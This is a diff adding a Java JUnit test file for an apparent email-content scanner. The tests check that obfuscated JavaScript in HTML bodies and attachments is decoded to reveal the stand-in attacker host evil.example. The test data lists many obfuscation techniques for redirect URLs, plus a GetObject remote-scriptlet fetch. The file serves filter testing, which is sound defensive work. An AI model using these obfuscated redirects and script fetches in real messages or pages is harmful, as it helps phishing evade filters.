@@ -1,0 +1,67 @@
+package org.bloomgate.content.mime;
+
+import static java.nio.charset.StandardCharsets.ISO_8859_1;
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import java.util.Base64;
+import java.util.Set;
+import org.bloomgate.core.key.Place;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+
+/// What scripts put together in one step, in the body and in attached files.
+class ScriptsTest {
+    private static ReadMessage attached(String name, String content) {
+        return ReadMessage.of(("Content-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n"
+                        + "Content-Disposition: attachment; filename=\"" + name + "\"\r\n\r\n"
+                        + Base64.getMimeEncoder().encodeToString(content.getBytes(ISO_8859_1)))
+                .getBytes(ISO_8859_1));
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "location=atob(\"aHR0cDovL2V2aWwuZXhhbXBsZS94\")",
+                "var a='aHR0cDovL2V2aWwuZXhhbXBsZS94'",
+                "location=atob('aHR0cDov'+'L2V2aWwuZXhhbXBsZS94')",
+                "location=unescape('%68%74%74%70%3A%2F%2Fevil.example')",
+                "location=unescape('%u0068ttp://evil.example')",
+                "location=decodeURIComponent('http%3A//evil.example')",
+                "location=String.fromCharCode(104,116,116,112,58,47,47,101,118,105,108,46,101,120,97,109,112,108,101)",
+                "location=String.fromCharCode(0x68,0x74,0x74)+'p://evil.example'",
+                "location=[104,116,116,112,58,47,47,101,118,105,108,46,101,120,97,109,112,108,101].map(f)",
+                "location='\\x68\\x74tp://evil.example'",
+                "location='\\u0068ttp://evil.ex\\u{61}mple'",
+                "location='\\150ttp://evil.example'",
+                "location='elpmaxe.live//:ptth'.split('').reverse().join('')",
+                "location='htt'+'p://ev' + /**/ \"il.example\"",
+                "location=['http:','//evil','.example'].join('')",
+                "location=('ht').concat('tp://evil.example')",
+                "x='687474703a2f2f6576696c2e6578616d706c652f78'",
+                "document.write(atob('PGEgaHJlZj0iLy9ldmlsLmV4YW1wbGUveCI+eDwvYT4='))"
+            })
+    void literalsAreDecodedOneStep(String script) {
+        ReadMessage body = ReadMessage.html("<p>x</p><script>" + script + "</script>");
+        assertTrue(body.holds(Place.SCRIPT, "evil.example"), () -> "" + body);
+        ReadMessage file = attached("x.html", "<p>x</p><script>" + script + "</script>");
+        assertTrue(file.holds(Place.SCRIPT_ATTACHMENT, "evil.example"), () -> "" + file);
+        assertEquals(Set.of(), file.limits());
+    }
+
+    @Test
+    void scriptsOfAttachedFilesAreReadAsTheyStandToo() {
+        assertTrue(attached("x.html", "<script>location='http://evil.example'</script>")
+                .holds(Place.SCRIPT_ATTACHMENT, "evil.example"));
+        assertTrue(attached("x.js", "GetObject('script:'+'http://evil.example')")
+                .holds(Place.SCRIPT_ATTACHMENT, "evil.example"));
+    }
+
+    @Test
+    void whatIsDecodedIsBounded() {
+        String piece = "'" + "a b".repeat(100) + "'+'c';";
+        assertEquals(Set.of(), attached("x.js", piece.repeat(800)).limits());
+        assertEquals(Set.of("scripts"), attached("x.js", piece.repeat(900)).limits());
+    }
+}
